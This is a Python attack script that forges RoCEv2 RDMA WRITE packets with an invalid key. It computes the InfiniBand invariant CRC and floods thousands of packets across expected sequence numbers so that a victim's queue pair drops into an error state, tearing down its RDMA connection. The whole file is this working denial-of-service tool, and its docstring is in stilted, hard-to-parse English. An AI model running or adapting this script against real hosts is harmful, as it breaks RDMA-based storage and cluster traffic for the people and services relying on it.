"""Puts a queue pair into error: to who has it a peer seems to write to memory that it was not given.

forged.py FROM TO LQPN [QPN PSN]: the addresses; the number that the guest knows the queue pair by; its number where it is, and
the packet that it expects next, which the guest is asked for unless they are given. Who is asked goes on meanwhile: so packets
for all that may be expected by then follow, of which those that are not are duplicates, or out of sequence.
"""
import json, socket, struct, subprocess, sys, zlib

ours, theirs, lqpn = sys.argv[1:4]
if sys.argv[4:]:
    qpn, psn = map(int, sys.argv[4:6])
else:
    known = json.loads(subprocess.check_output(["rdma", "-j", "res", "show", "qp"]))
    qpn, psn = next((pair["rqpn"], pair["sq-psn"]) for pair in known if pair["lqpn"] == int(lqpn))
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# Fragments are not allowed: then the identification is 0, and the rest of the IP header is known as well.
IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
sender.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
sender.bind((ours, 0))
ends = socket.inet_aton(ours) + socket.inet_aton(theirs)
WRITE_ONLY, ROCE, AHEAD = 0x0A, 4791, 8192


def invariant_crc(packet):
    """What routers change counts as ones (InfiniBand Architecture, volume 1, annex A17)."""
    udp = struct.pack(">HHHH", sender.getsockname()[1], ROCE, 8 + len(packet) + 4, 0xFFFF)
    ip = struct.pack(">BBHHHBBH", 0x45, 0xFF, 28 + len(packet) + 4, 0, 0x4000, 0xFF, socket.IPPROTO_UDP, 0xFFFF) + ends
    return zlib.crc32(b"\xff" * 8 + ip + udp + packet[:4] + b"\xff" + packet[5:])


for expected in range(psn, psn + AHEAD):
    transport = struct.pack(">BBHII", WRITE_ONLY, 0, 0xFFFF, qpn, expected & 0xFFFFFF)
    packet = transport + struct.pack(">QII", 0, 0, 4) + bytes(4)
    sender.sendto(packet + struct.pack("<I", invariant_crc(packet)), (theirs, ROCE))
